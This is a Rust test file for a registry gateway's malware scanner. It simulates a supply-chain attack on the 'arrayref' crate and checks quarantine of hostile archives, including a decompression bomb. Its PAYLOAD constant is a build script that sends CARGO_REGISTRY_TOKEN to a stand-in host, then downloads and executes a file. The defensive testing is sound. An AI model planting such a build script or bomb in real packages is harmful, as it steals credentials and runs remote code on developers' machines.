//! `palisade serve` with its scanner: what is malicious, what breaks the
//! scanner, and the attack on arrayref of 20 August 2026.

use std::collections::BTreeMap;
use std::io::{BufRead, BufReader, Read, Write};
use std::net::{SocketAddr, TcpListener, TcpStream};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use flate2::Compression;
use flate2::write::GzEncoder;
use jiff::{SignedDuration, Timestamp};
use palisade_archive::checksum;
use serde_json::json;

use crate::gateway::House;

/// A registry that plays the upstream.
struct Upstream {
    address: SocketAddr,
    files: Files,
}

type Files = Arc<Mutex<BTreeMap<String, Vec<u8>>>>;

impl Upstream {
    fn start() -> Upstream {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let address = listener.local_addr().unwrap();
        let files: Files = Arc::default();
        let config = format!("{{\"dl\":\"http://{address}/dl\"}}");
        files
            .lock()
            .unwrap()
            .insert("/config.json".to_owned(), config.into_bytes());
        let served = files.clone();
        std::thread::spawn(move || {
            for stream in listener.incoming().flatten() {
                let files = served.clone();
                std::thread::spawn(move || answer(stream, &files));
            }
        });
        Upstream { address, files }
    }

    /// Publishes a version so many hours ago.
    fn publish(&self, name: &str, version: &str, hours: i64, needs: &[&str], archive: &[u8]) {
        let now = Timestamp::now();
        let time = now.checked_sub(SignedDuration::from_hours(hours)).unwrap();
        let dependencies: Vec<_> = needs
            .iter()
            .map(|name| {
                json!({
                    "name": name, "req": "1", "features": [], "optional": false,
                    "default_features": true, "target": null, "kind": "normal",
                })
            })
            .collect();
        let line = json!({
            "name": name, "vers": version, "deps": dependencies,
            "cksum": checksum(archive).to_string(), "features": {}, "yanked": false,
            "pubtime": Timestamp::from_second(time.as_second()).unwrap().to_string(),
        });
        let mut files = self.files.lock().unwrap();
        let index = files.entry(index_path(name)).or_default();
        index.extend(format!("{line}\n").into_bytes());
        files.insert(format!("/dl/{name}/{version}/download"), archive.to_vec());
    }

    fn yank_all(&self, name: &str, but: &str) {
        let mut files = self.files.lock().unwrap();
        let index = files.get_mut(&index_path(name)).unwrap();
        let text = String::from_utf8(index.clone()).unwrap();
        let lines = text.lines().map(|line| {
            if line.contains(&format!("\"vers\":\"{but}\"")) {
                line.to_owned()
            } else {
                line.replace("\"yanked\":false", "\"yanked\":true")
            }
        });
        *index = lines
            .map(|line| line + "\n")
            .collect::<String>()
            .into_bytes();
    }
}

fn index_path(name: &str) -> String {
    format!("/{}", palisade_index::index_path(name))
}

fn answer(mut stream: TcpStream, files: &Files) {
    let mut lines = BufReader::new(stream.try_clone().unwrap()).lines();
    let Some(Ok(first)) = lines.next() else {
        return;
    };
    let path = first.split(' ').nth(1).unwrap_or_default().to_owned();
    while lines
        .next()
        .is_some_and(|line| line.is_ok_and(|line| !line.is_empty()))
    {}
    let found = files.lock().unwrap().get(&path).cloned();
    let (status, body) = match found {
        Some(body) => ("200 OK", body),
        None => ("404 Not Found", Vec::new()),
    };
    let head = format!(
        "HTTP/1.1 {status}\r\ncontent-length: {}\r\nconnection: close\r\n\r\n",
        body.len()
    );
    let _ = stream.write_all(head.as_bytes());
    let _ = stream.write_all(&body);
}

fn archive(name: &str, version: &str, files: &[(&str, &str)]) -> Vec<u8> {
    let mut manifest =
        format!("[package]\nname = \"{name}\"\nversion = \"{version}\"\nedition = \"2021\"\n");
    if files.iter().any(|(path, _)| *path == "build.rs") {
        manifest.push_str("[build-dependencies]\nureq = \"2\"\n");
    }
    let mut tar = tar::Builder::new(GzEncoder::new(Vec::new(), Compression::fast()));
    let own = [("Cargo.toml", manifest.as_str())];
    for (path, text) in own.iter().chain(files) {
        let mut header = tar::Header::new_gnu();
        header.set_size(text.len() as u64);
        header.set_mode(0o644);
        let path = format!("{name}-{version}/{path}");
        tar.append_data(&mut header, path, text.as_bytes()).unwrap();
    }
    tar.into_inner().unwrap().finish().unwrap()
}

fn house(upstream: &Upstream, settings: &str) -> House {
    let house = House::with(&format!(
        "[gateway]\nlisten = \"127.0.0.1:0\"\n{settings}\n[gateway.upstream]\nindex = \"sparse+http://{}/\"\nrefresh-seconds = 0\n",
        upstream.address
    ));
    let config = format!(
        "[source.crates-io]\nreplace-with = \"gw\"\n[registries.gw]\nindex = \"{}\"\n[net]\nretry = 0\n",
        house.index
    );
    for home in ["home", "fresh", "third"] {
        let home = house.dir.path().join(home);
        std::fs::create_dir_all(&home).unwrap();
        std::fs::write(home.join("config.toml"), &config).unwrap();
    }
    house
}

/// The status and text of a download.
fn download(house: &House, which: &str) -> (u16, String) {
    let address = house.index.strip_prefix("sparse+http://").unwrap();
    let address = address.strip_suffix("/index/").unwrap();
    let mut stream = TcpStream::connect(address).unwrap();
    write!(
        stream,
        "GET /api/v1/crates/{which}/download HTTP/1.1\r\nhost: {address}\r\nconnection: close\r\n\r\n"
    )
    .unwrap();
    let mut bytes = Vec::new();
    stream.read_to_end(&mut bytes).unwrap();
    let text = String::from_utf8_lossy(&bytes).into_owned();
    let status = text.split(' ').nth(1).unwrap().parse().unwrap();
    let body = text.split_once("\r\n\r\n").unwrap().1.to_owned();
    (status, body)
}

/// More than cargo, or anybody, would unpack.
fn bomb() -> Vec<u8> {
    const SIZE: u64 = 600 << 20;
    let mut tar = tar::Builder::new(GzEncoder::new(Vec::new(), Compression::fast()));
    let mut header = tar::Header::new_gnu();
    header.set_size(SIZE);
    header.set_mode(0o644);
    let zeros = std::io::repeat(0).take(SIZE);
    tar.append_data(&mut header, "bomb-1.0.0/src/lib.rs", zeros)
        .unwrap();
    tar.into_inner().unwrap().finish().unwrap()
}

/// A build script of the kind that was in the payload of August 2026.
const PAYLOAD: &str = r#"
use std::process::Command;
fn main() {
    let key = std::env::var("CARGO_REGISTRY_TOKEN").unwrap_or_default();
    let url = format!("https://collect.example.workers.dev/?k={key}");
    let body = ureq::get(&url).call().unwrap().into_string().unwrap();
    std::fs::write("/tmp/.x", body).unwrap();
    Command::new("sh").arg("-c").arg("chmod +x /tmp/.x && /tmp/.x").spawn().unwrap();
}
"#;

const YEARS: i64 = 3 * 365 * 24;

/// Guards the scanner in the way of every archive: an old version that no rule
/// about new ones concerns is kept back for what is in it, and the reason
/// names the place.
#[test]
fn a_malicious_archive_is_kept_back() {
    let upstream = Upstream::start();
    let good = archive("good", "1.0.0", &[("src/lib.rs", "pub fn f() {}")]);
    upstream.publish("good", "1.0.0", YEARS, &[], &good);
    let bad = archive(
        "helper",
        "1.0.0",
        &[("src/lib.rs", ""), ("build.rs", PAYLOAD)],
    );
    upstream.publish("helper", "1.0.0", YEARS, &[], &bad);
    let house = house(&upstream, "");
    house.package("app", "good = \"1\"");
    let (ok, text) = house.cargo_in("home", "app", "", &["check"]);
    assert!(ok, "{text}");
    let (status, text) = download(&house, "helper/1.0.0");
    assert_eq!(status, 403, "{text}");
    assert!(
        text.contains("build.rs:") && text.contains("(rule `scan`)"),
        "{text}"
    );
    let shown = house.says(&["case", "show", "helper", "1.0.0"]);
    assert!(
        shown.contains("state:      quarantined") && shown.contains("build.rs:"),
        "{shown}"
    );
    // From now on the index says so too, and it is scanned once.
    house.package("late", "helper = \"1\"");
    let (ok, text) = house.cargo_in("home", "late", "", &["generate-lockfile"]);
    assert!(
        !ok && text.contains("yanked") || text.contains("no matching"),
        "{text}"
    );
    let before = house.says(&["audit", "export"]).lines().count();
    assert_eq!(download(&house, "helper/1.0.0").0, 403);
    assert_eq!(download(&house, "good/1.0.0").0, 200);
    assert_eq!(house.says(&["audit", "export"]).lines().count(), before);
}

/// Guards the gateway's life: archives that are made to break a scanner cost
/// themselves alone.
#[test]
fn hostile_archives_cost_themselves_alone() {
    let upstream = Upstream::start();
    let bomb = bomb();
    let nested = format!("{}1{}", "(".repeat(4 << 20), ")".repeat(4 << 20));
    let nested = format!("pub fn f() -> u8 {{ {nested} }}");
    let deep = archive("deep", "1.0.0", &[("src/lib.rs", &nested)]);
    let good = archive("good", "1.0.0", &[("src/lib.rs", "")]);
    for (name, bytes) in [
        ("bomb", bomb.as_slice()),
        ("cut", &good[..good.len() / 2]),
        ("noise", b"\x1f\x8bnoise".as_slice()),
        ("deep", &deep),
        ("good", &good),
    ] {
        upstream.publish(name, "1.0.0", YEARS, &[], bytes);
    }
    let house = house(&upstream, "policy.scan.seconds = 20");
    for name in ["bomb", "cut", "noise"] {
        let (status, text) = download(&house, &format!("{name}/1.0.0"));
        assert_eq!(status, 403, "{name}: {text}");
        assert!(text.contains(name), "{text}");
    }
    // Whether this one is understood is the scanner's business.
    let (status, text) = download(&house, "deep/1.0.0");
    assert!([200, 403].contains(&status), "{status} {text}");
    assert_eq!(download(&house, "good/1.0.0").0, 200);
}

/// Guards the whole attack, with the default policy and the scanner on:
/// whoever updates meanwhile ends on the last good release, lockfiles go on
/// working, and the payload is never served.
#[test]
fn arrayref_with_the_scanner() {
    let upstream = Upstream::start();
    let source = [("src/lib.rs", "pub fn good() {}")];
    for (version, years) in [("0.3.7", 4), ("0.3.8", 3), ("0.3.9", 2)] {
        let bytes = archive("arrayref", version, &source);
        upstream.publish("arrayref", version, years * 365 * 24, &[], &bytes);
    }
    let house = house(&upstream, "");
    house.package("app", "arrayref = \"0.3\"");
    let (ok, text) = house.cargo_in("home", "app", "", &["check"]);
    assert!(ok, "{text}");
    let payload = [("src/lib.rs", ""), ("build.rs", PAYLOAD)];
    let clean = archive("proc-macro1", "1.0.106", &[("src/lib.rs", "")]);
    upstream.publish("proc-macro1", "1.0.106", 6, &[], &clean);
    let bytes = archive("proc-macro1", "1.0.107", &payload);
    upstream.publish("proc-macro1", "1.0.107", 1, &[], &bytes);
    let bytes = archive("arrayref", "0.3.10", &source);
    upstream.publish("arrayref", "0.3.10", 1, &["proc-macro1"], &bytes);
    upstream.yank_all("arrayref", "0.3.10");

    let lock = house.dir.path().join("app/Cargo.lock");
    let (ok, text) = house.cargo_in("home", "app", "", &["update"]);
    assert!(ok, "{text}");
    let locked = std::fs::read_to_string(&lock).unwrap();
    assert!(locked.contains("version = \"0.3.9\""), "{locked}");
    // Somebody with nothing but the lockfile, and somebody who begins now.
    let (ok, text) = house.cargo_in("fresh", "app", "", &["check", "--locked"]);
    assert!(ok, "{text}");
    house.package("new", "arrayref = \"0.3\"");
    let (ok, text) = house.cargo_in("third", "new", "", &["check"]);
    assert!(ok, "{text}");
    let locked = std::fs::read_to_string(house.dir.path().join("new/Cargo.lock")).unwrap();
    assert!(locked.contains("version = \"0.3.9\""), "{locked}");
    for which in [
        "proc-macro1/1.0.106",
        "proc-macro1/1.0.107",
        "arrayref/0.3.10",
    ] {
        let (status, text) = download(&house, which);
        assert_eq!(status, 403, "{which}: {text}");
    }
    // When somebody releases the crate from its hold, the scanner is asked
    // about every version that nobody has decided about.
    let start = Instant::now();
    house
        .admin(&[
            "waiver",
            "request",
            "proc-macro1",
            "--rule",
            "new-crate,minimum-age",
            "--days",
            "3",
            "--reason",
            "somebody thinks they need it",
        ])
        .success();
    house
        .admin_as(
            "otto",
            &[
                "waiver",
                "approve",
                "1",
                "--reason",
                "without looking at it",
            ],
        )
        .success();
    loop {
        let (status, text) = download(&house, "proc-macro1/1.0.106");
        if status == 200 {
            break;
        }
        assert!(start.elapsed() < Duration::from_secs(20), "{text}");
        std::thread::sleep(Duration::from_millis(100));
    }
    let (status, text) = download(&house, "proc-macro1/1.0.107");
    assert!(
        status == 403 && text.contains("(rule `scan`)"),
        "{status} {text}"
    );
    house.says(&["audit", "verify"]);
}

/// How many crates a cold fetch has to have for its time to mean something.
const MANY: usize = 300;

/// The time that cargo takes to fetch everything with a home of its own.
fn fetch(house: &House, home: &str, index: &str) -> Duration {
    let config = format!(
        "[source.crates-io]\nreplace-with = \"gw\"\n[registries.gw]\nindex = \"{index}\"\n[net]\nretry = 0\n"
    );
    let directory = house.dir.path().join(home);
    std::fs::create_dir_all(&directory).unwrap();
    std::fs::write(directory.join("config.toml"), config).unwrap();
    let start = Instant::now();
    let (ok, text) = house.cargo_in(home, "app", "", &["fetch", "--locked"]);
    assert!(ok, "{text}");
    start.elapsed()
}

/// Guards the price of the scanner: a cold fetch of real crates through the
/// gateway against one from the upstream itself, when everything has to be
/// scanned first and when everything was. The upstream is filled from cargo's
/// cache. Measured side by side, the best of three; only in the long run,
/// because times on a busy machine say little.
#[test]
fn a_cold_fetch_beside_a_direct_one() {
    if std::env::var_os("PALISADE_FULL").is_none() {
        return;
    }
    let upstream = Upstream::start();
    let home = camino::Utf8PathBuf::from_path_buf(std::env::home_dir().unwrap().join(".cargo"));
    let home = std::env::var("CARGO_HOME").map_or_else(|_| home.unwrap(), Into::into);
    let caches = palisade_index::CargoCache::all(&home).unwrap();
    let mut dependencies = String::new();
    let mut names = std::collections::BTreeSet::new();
    for cache in &caches {
        for (name, version) in cache.archives().unwrap() {
            if names.len() == MANY || !names.insert(name.clone()) {
                continue;
            }
            let path = cache.archive_path(&name, &version).unwrap();
            let bytes = std::fs::read(path).unwrap();
            upstream.publish(&name, &version.to_string(), YEARS, &[], &bytes);
            let at = names.len();
            dependencies.push_str(&format!(
                "d{at} = {{ package = \"{name}\", version = \"={version}\" }}\n"
            ));
        }
    }
    assert_eq!(names.len(), MANY, "cargo's cache has too little");
    // Real crates of which some look odd: what is measured is the way of the
    // archives, and not who is innocent.
    let house = house(&upstream, "policy.mode = \"audit\"");
    house.package("app", &dependencies);
    let (ok, text) = house.cargo_in("home", "app", "", &["generate-lockfile"]);
    assert!(ok, "{text}");
    let direct_index = format!("sparse+http://{}/", upstream.address);
    let direct = (0..3)
        .map(|at| fetch(&house, &format!("direct{at}"), &direct_index))
        .min()
        .unwrap();
    let scanning = fetch(&house, "scanning", &house.index);
    let stored = (0..3)
        .map(|at| fetch(&house, &format!("stored{at}"), &house.index))
        .min()
        .unwrap();
    let times = |time: Duration| time.as_secs_f64() / direct.as_secs_f64();
    println!(
        "direct {:.2} s; scanning first {:.2} times; verdicts stored {:.2} times",
        direct.as_secs_f64(),
        times(scanning),
        times(stored)
    );
    assert!(times(stored) <= 1.3, "{:.2}", times(stored));
    assert!(times(scanning) <= 4.0, "{:.2}", times(scanning));
}
